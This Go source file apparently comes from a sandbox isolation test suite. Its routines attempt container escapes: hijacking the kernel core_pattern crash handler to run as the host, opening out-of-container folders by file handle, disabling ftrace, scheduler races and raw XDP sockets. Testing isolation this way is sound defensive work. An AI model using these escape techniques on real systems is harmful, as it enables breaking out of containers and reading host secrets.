//go:build guest

package attacks

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// outsideWays go round the programs, or reach what is withheld by a way that leads out of the container.
func outsideWays() []way {
	return []way{
		{name: "with the kernel's tracing switched off", try: func() error { return readWithoutTracing("/proc") }, lacking: unix.EOPNOTSUPP}, // Linux 7 refuses
		{name: "with the kernel's tracing switched off in another proc", try: inOwnMounts(func(at string) error {
			return errors.Join(unix.Mount("proc", at, "proc", 0, ""), readWithoutTracing(at))
		}), lacking: unix.EOPNOTSUPP},
		{name: "while a neighbour is in the midst of being judged", try: readBesideNeighbour},
		{name: "beside the volume, from a folder that was opened by handle", try: func() error {
			dir, err := openBeside()
			return errors.Join(err, readFD(unix.Openat(dir, "file", unix.O_RDONLY, 0)))
		}},
		{name: "beside the volume, from the working folder that was opened by handle", try: func() error {
			dir, err := openBeside()
			return errors.Join(err, unix.Fchdir(dir), read("file"))
		}},
		{name: "making a file beside the volume, from a folder that was opened by handle", try: func() error {
			dir, err := openBeside()
			if err != nil {
				return err
			}
			fd, err := unix.Openat(dir, "new", unix.O_CREAT|unix.O_WRONLY, 0o600)
			return errors.Join(err, unix.Close(fd), unix.Unlinkat(dir, "new", 0))
		}},
		{name: "a program beside the volume, from a folder that was opened by handle", try: func() error {
			dir, err := openBeside()
			return errors.Join(err, ran(exec.Command(fmt.Sprintf("/proc/self/fd/%d/tool", dir), toolCommand)))
		}},
		{name: "in a folder that is mounted twice, by its second name", try: reads("/second/file")},
		{name: "in a folder that has a mount of its own besides, by the outer name", try: reads("/volume/inner/file")},
		{name: "frames of XDP", try: socket(unix.AF_XDP, unix.SOCK_RAW, 0)},
		{name: "by the kernel's handler of crashes", try: readByCrashHandler, open: true},
	}
}

// Commands and parts of these ways.
const (
	crashCommand = "intruder-crash" // of the kernel's: the process whose number follows has crashed
	deepWay      = "reading a deep name for a while"
	atWork       = 3 * time.Second
)

func readWithoutTracing(proc string) error {
	name := proc + "/sys/kernel/ftrace_enabled"
	if err := writeFile(name, "0"); err != nil {
		return err
	}
	return errors.Join(read(secret), writeFile(name, "1"))
}

// readBesideNeighbour reads again and again at moments in which another process on its processor is
// likely to be stopped in the middle of a program of ours.
func readBesideNeighbour() error {
	var first unix.CPUSet
	first.Set(0)
	if err := unix.SchedSetaffinity(0, &first); err != nil {
		return err
	}
	neighbour := exec.Command("/proc/self/exe", tryCommand, deepWay)
	if err := neighbour.Start(); err != nil {
		return err
	}
	defer func() { _ = neighbour.Process.Kill(); _ = neighbour.Wait() }()
	const fifo = 1
	priority := int32(10)
	if _, _, errno := unix.RawSyscall(unix.SYS_SCHED_SETSCHEDULER, 0, fifo, uintptr(unsafe.Pointer(&priority))); errno != 0 {
		return errno
	}
	name := append([]byte(secret), 0)
	nap := unix.Timespec{Nsec: 100_000}
	for end := time.Now().Add(atWork); time.Now().Before(end); {
		_, _, _ = unix.RawSyscall(unix.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&nap)), 0, 0)
		fd, _, errno := unix.RawSyscall(unix.SYS_OPEN, uintptr(unsafe.Pointer(&name[0])), unix.O_RDONLY, 0)
		if errno == 0 {
			return readFD(int(fd), nil)
		}
		if errno != unix.EACCES {
			return errno
		}
	}
	return unix.EACCES
}

func readDeep() error {
	name := append([]byte(deepName()), 0)
	for end := time.Now().Add(2 * atWork); time.Now().Before(end); {
		fd, _, errno := unix.RawSyscall(unix.SYS_OPEN, uintptr(unsafe.Pointer(&name[0])), unix.O_RDONLY, 0)
		if errno == 0 {
			_ = unix.Close(int(fd))
		}
	}
	return nil
}

// besideHandle is where the handle of a folder of the volume's file system is told, that no mount of the
// container shows. Handles can be guessed: those of ext4 are an inode's number and its generation.
const besideHandle = "/volume/beside"

func openBeside() (int, error) {
	text, err := os.ReadFile(besideHandle)
	if err != nil {
		return 0, err
	}
	mount, err := unix.Open("/volume", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return 0, err
	}
	h := unix.NewFileHandle(int32(binary.LittleEndian.Uint32(text)), text[4:])
	return unix.OpenByHandleAt(mount, h, unix.O_PATH|unix.O_DIRECTORY)
}

// tellBeside writes the handle of a folder, from outside.
func tellBeside(folder, to string) error {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, folder, 0)
	if err != nil {
		return err
	}
	return os.WriteFile(to, append(binary.LittleEndian.AppendUint32(nil, uint32(h.Type())), h.Bytes()...), 0o644)
}

const foundByHandler = "/work/found-by-handler"

// readByCrashHandler has the kernel start this program for a process that crashes: as the host's, in no
// container.
func readByCrashHandler() error {
	const pattern = "/proc/sys/kernel/core_pattern"
	before, err := os.ReadFile(pattern)
	if err != nil {
		return err
	}
	if err := writeFile(pattern, "|/proc/%P/root/intruder "+crashCommand+" %P"); err != nil {
		return err
	}
	_ = exec.Command("/bin/sh", "-c", "kill -ABRT $$").Run()
	err = os.WriteFile(pattern, before, 0)
	for range 50 {
		if read(foundByHandler) == nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	return errors.Join(err, read(foundByHandler), os.Remove(foundByHandler))
}

// handleCrash reads the secret in the root of the process that has crashed.
func handleCrash(pid string) error {
	root := "/proc/" + pid + "/root"
	text, err := os.ReadFile(root + secret)
	return errors.Join(err, os.WriteFile(root+foundByHandler, text, 0o644))
}
